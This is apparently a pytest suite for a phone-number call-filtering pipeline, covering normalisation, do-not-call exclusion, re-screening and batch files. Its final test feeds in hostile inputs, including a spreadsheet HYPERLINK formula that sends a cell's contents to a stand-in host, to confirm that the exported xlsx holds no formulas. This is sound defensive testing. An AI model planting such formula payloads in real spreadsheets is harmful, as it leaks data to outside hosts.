"""Plan: normalise, drop malformed and repeated numbers, apply the calling rules (do-not-call, re-screening),
split into batches and write their files."""

from __future__ import annotations

import io

import pytest

from callfilter import db as dbm
from callfilter import files, planning
from callfilter_dev import devenv
from tests.batches import registered

DAY = 86400


def test_plan_normalises_dedupes_and_reruns_reuse_the_batches(db, storage):
    numbers = [
        "138 0013 8000",
        "138-0013-8000",
        "(138).0013.8000",
        "+8613900000000",
        "12",
        "1" * 21,
        "13700000000",
    ]
    devenv.load_case_tel(db.conn, "S3", numbers)
    task = registered(db, "S3", batch_size=2, max_attempts=3)
    with dbm.connect() as conn:
        first = planning.plan_batches(conn, task, storage, max_batches=1024)
        again = planning.plan_batches(conn, task, storage, max_batches=1024)
    assert (
        first == again and [b.numbers for b in first] == [2, 1] and first[0].label == "batch 1/2, 2 numbers"
    )
    assert db.value("select count(*) from call_filter_send_batch") == 2
    assert db.value("select count(*) from call_filter_send_detail") == 5
    invalid = db.rows(
        "select telno, valid_status, valid_reason from case_tel where valid_status = 2 order by telid"
    )
    assert [(r["telno"], r["valid_reason"]) for r in invalid] == [("12", "FORMAT"), ("1" * 21, "FORMAT")]
    body = storage.read_json(files.request_path(task["id"], 1))
    assert body == {
        "request_id": f"cf-{task['id']}-0001",
        "task_name": f"call filter {task['id']} batch 1/2",
        "numbers": [{"nid": "1", "phone": "13800138000"}, {"nid": "4", "phone": "13900000000"}],
        "max_attempts": 3,
        "caller_id": None,
    }
    assert storage.exists(files.batch_xlsx_path(task["id"], 2))


def test_plan_refuses_more_batches_than_airflow_maps(db, storage):
    devenv.load_case_tel(db.conn, "S4", [f"1350000{i:04d}" for i in range(30)])
    task = registered(db, "S4", batch_size=10)
    with (
        dbm.connect() as conn,
        pytest.raises(
            planning.PlanError,
            match=r"3 batches, more than Airflow maps \(2\); raise \[core\] max_map_length",
        ),
    ):
        planning.plan_batches(conn, task, storage, max_batches=2)
    assert db.value("select count(*) from call_filter_send_batch") == 0
    assert db.value("select count(*) from case_tel where valid_status <> 0") == 0


def test_a_vendor_cap_whose_waits_outgrow_the_triggerer_is_named_with_the_setting_to_raise():
    assert planning.triggerer_shortfall(5, 1000) is None
    assert planning.triggerer_shortfall(333, 1000) is None
    message = planning.triggerer_shortfall(334, 1000)
    assert message is not None
    assert "CALLFILTER_VENDOR_CAP 334 lets this run keep up to 1002 triggers waiting" in message
    assert "[triggerer] capacity 1000" in message and "AIRFLOW__TRIGGERER__CAPACITY" in message


def test_request_ids_carry_the_deployment_so_two_deployments_on_one_vendor_app_never_collide(monkeypatch):
    from callfilter import contract

    assert planning.request_id(7, 3) == "cf-7-0003"
    monkeypatch.setenv("CALLFILTER_DEPLOYMENT", "staging")
    assert planning.request_id(7, 3) == "cf-staging-7-0003"
    assert planning.request_id(7, 3, attempt=2) == "cf-staging-7-0003-a2"
    monkeypatch.setenv("CALLFILTER_DEPLOYMENT", "x" * 16)  # the longest request id still fits the contract
    assert contract.REQUEST_ID_RE.match(planning.request_id(2**63 - 1, 9999, attempt=99))
    monkeypatch.setenv("CALLFILTER_DEPLOYMENT", "prod/eu")
    with pytest.raises(ValueError, match="CALLFILTER_DEPLOYMENT must be 1-16 letters or digits"):
        planning.request_id(7, 3)


def planned_phones(db, filter_task_id: int) -> dict[str, list[int]]:
    """Each number a task is to dial, with the telids that get its verdict."""
    rows = db.rows(
        "select d.phone, d.telid from call_filter_send_detail d join call_filter_send_batch b "
        "on b.id = d.filter_send_batch_id where b.filter_task_id = %s order by d.telid",
        (filter_task_id,),
    )
    phones: dict[str, list[int]] = {}
    for row in rows:
        phones.setdefault(row["phone"], []).append(row["telid"])
    return phones


def test_chinese_data_entry_forms_of_one_mobile_are_one_number_dialed_once(db, storage):
    numbers = [
        "13800138000",
        "+86 138 0013 8000",
        "0086-138-0013-8000",
        "8613800138000",
        "１３８００１３８０００",  # full-width digits
        "＋８６　１３８－００１３－８０００",  # full-width plus, dash and space
        "（０２１）１２３４５６７８",  # a Shanghai landline in full-width brackets
        "861380013800",  # 86 before 10 digits is not a mainland mobile: kept as written
        "+44 20 7946 0958",
    ]
    devenv.load_case_tel(db.conn, "CN1", numbers)
    task = registered(db, "CN1")
    with dbm.connect() as conn:
        (batch,) = planning.plan_batches(conn, task, storage, max_batches=1024)
    assert planned_phones(db, task["id"]) == {
        "13800138000": [1, 2, 3, 4, 5, 6],
        "02112345678": [7],
        "861380013800": [8],
        "+442079460958": [9],
    }
    body = storage.read_json(files.request_path(task["id"], 1))
    assert [n["phone"] for n in body["numbers"]] == [
        "13800138000",
        "02112345678",
        "861380013800",
        "+442079460958",
    ]
    assert batch.numbers == 4 and db.value("select count(*) from case_tel where valid_status <> 0") == 0


def test_numbers_on_the_do_not_call_list_are_never_planned(db, storage):
    devenv.load_case_tel(
        db.conn, "DNC1", ["13500000001", "１３５０００００００２", "135 0000 0003", "13500000004"]
    )
    # The list holds numbers as people write them; one number was found invalid before it was put on it.
    devenv.load_dnc(db.conn, ["+86 135-0000-0001", "13500000002", "0086 13500000003"])
    db.conn.execute("update case_tel set valid_status = 2, valid_reason = 'VACANT' where telid = 3")
    task = registered(db, "DNC1")
    with dbm.connect() as conn:
        planning.plan_batches(conn, task, storage, max_batches=1024)
    assert planned_phones(db, task["id"]) == {"13500000004": [4]}
    assert [n["phone"] for n in storage.read_json(files.request_path(task["id"], 1))["numbers"]] == [
        "13500000004"
    ]
    rows = db.rows("select telid, valid_status, valid_reason, screen_attempts from case_tel order by telid")
    assert [(r["valid_status"], r["valid_reason"], r["screen_attempts"]) for r in rows] == [
        (0, "DNC", 0),
        (0, "DNC", 0),
        (0, "DNC", 0),
        (0, None, 1),
    ]


def test_rescreening_waits_for_the_delay_stops_at_the_limit_and_can_refresh_old_valid_numbers(
    db, storage, monkeypatch
):
    devenv.load_case_tel(db.conn, "RS1", [f"1350000000{i}" for i in range(1, 8)])
    ago = "now() - make_interval(hours => %s)"
    for telid, status, reason, attempts, screened_hours_ago, checked_hours_ago in [
        (1, 0, "POWER_OFF", 1, 1, 1),  # unknown, screened an hour ago: waits for the delay
        (2, 0, "POWER_OFF", 1, 25, 25),  # unknown, screened yesterday: screened again
        (3, 0, "CALL_LIMIT", 2, 48, 48),  # unknown, screened twice already: the third and last time
        (4, 0, "UNREACHABLE", 3, 48, 48),  # unknown after 3 screenings: left alone as UNREACHABLE_MAX
        (5, 1, "ANSWERED", 1, 24 * 40, 24 * 40),  # valid 40 days ago: refreshed (age set to 30 days)
        (6, 1, "ANSWERED", 1, 24, 24),  # valid yesterday: left alone
        (7, 2, "VACANT", 1, 1, 1),  # invalid: screened again like any number not valid
    ]:
        db.conn.execute(
            "update case_tel set valid_status = %s, valid_reason = %s, screen_attempts = %s, "
            f"last_screened_at = {ago}, valid_checked_at = {ago} where telid = %s",
            (status, reason, attempts, screened_hours_ago, checked_hours_ago, telid),
        )
    monkeypatch.setenv("CALLFILTER_VALID_RESCREEN_AGE", str(30 * DAY))
    task = registered(db, "RS1")
    with dbm.connect() as conn:
        planning.plan_batches(conn, task, storage, max_batches=1024)
    assert sorted(planned_phones(db, task["id"]).values()) == [[2], [3], [5], [7]]
    rows = {r["telid"]: r for r in db.rows("select * from case_tel")}
    assert {t: (r["valid_status"], r["valid_reason"], r["screen_attempts"]) for t, r in rows.items()} == {
        1: (0, "POWER_OFF", 1),
        2: (0, "POWER_OFF", 2),
        3: (0, "CALL_LIMIT", 3),
        4: (0, "UNREACHABLE_MAX", 3),
        5: (1, "ANSWERED", 2),
        6: (1, "ANSWERED", 1),
        7: (2, "VACANT", 2),
    }
    assert db.value("select count(*) from case_tel where last_screened_at > now() - interval '1 minute'") == 4


def test_rescreening_settings_are_read_from_the_environment(monkeypatch):
    from callfilter import rules

    for name in (rules.RESCREEN_DELAY_ENV, rules.RESCREEN_MAX_ENV, rules.VALID_RESCREEN_AGE_ENV):
        monkeypatch.delenv(name, raising=False)
    assert rules.screening_rules() == rules.ScreeningRules(86400.0, 3, None)
    monkeypatch.setenv(rules.RESCREEN_DELAY_ENV, "3600")
    monkeypatch.setenv(rules.RESCREEN_MAX_ENV, "5")
    monkeypatch.setenv(rules.VALID_RESCREEN_AGE_ENV, "2592000")
    assert rules.screening_rules() == rules.ScreeningRules(3600.0, 5, 2592000.0)
    monkeypatch.setenv(rules.RESCREEN_MAX_ENV, "0")
    with pytest.raises(
        ValueError, match="CALLFILTER_RESCREEN_MAX must be a whole number of at least 1, got '0'"
    ):
        rules.screening_rules()


def test_a_stale_request_file_from_a_database_made_anew_is_written_again(db, storage):
    # Task ids repeat in a database made anew: task 1's files of the earlier database are still there.
    devenv.load_case_tel(db.conn, "ST1", ["13500000001", "13500000002"])
    task = registered(db, "ST1")
    stale = {
        "request_id": f"cf-{task['id']}-0001",
        "task_name": "old",
        "numbers": [{"nid": "9", "phone": "1"}],
    }
    storage.write_json(files.request_path(task["id"], 1), stale)
    with dbm.connect() as conn:
        planning.plan_batches(conn, task, storage, max_batches=1024)
    body = storage.read_json(files.request_path(task["id"], 1))
    assert [n["phone"] for n in body["numbers"]] == ["13500000001", "13500000002"]
    assert body["task_name"] == f"call filter {task['id']} batch 1/1"


def test_hostile_telnos_are_normalised_or_judged_malformed_and_never_break_a_file(db, storage):
    from openpyxl import load_workbook

    hostile = {
        "1380013800a": "FORMAT",  # a letter
        "abc": "FORMAT",
        "138\x0100138000": "FORMAT",  # a control character
        "=13800138000": "FORMAT",
        '=HYPERLINK("http://x/?"&B3,"y")': "FORMAT",
        "-13800138001": None,  # a dash is a separator: 13800138001
        "@13800138002": "FORMAT",
        "+8613800138003": None,  # 13800138003
        "\x0b13800138004": None,  # a vertical tab is white space: 13800138004
        "138 0013 8005\n": None,
    }
    devenv.load_case_tel(db.conn, "S-HOSTILE", list(hostile))
    task = registered(db, "S-HOSTILE")
    with dbm.connect() as conn:
        (batch,) = planning.plan_batches(conn, task, storage, max_batches=1024)
    malformed = {
        r["telno"]: r["valid_reason"]
        for r in db.rows("select telno, valid_reason from case_tel where valid_status = 2")
    }
    assert malformed == {telno: why for telno, why in hostile.items() if why}
    body = storage.read_json(files.request_path(task["id"], 1))
    assert sorted(n["phone"] for n in body["numbers"]) == [f"1380013800{i}" for i in (1, 3, 4, 5)]
    # The batch's xlsx holds every row it sent as text: no formula, no broken file.
    workbook = load_workbook(io.BytesIO(storage.read_bytes(files.batch_xlsx_path(task["id"], 1))))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert batch.numbers == 4
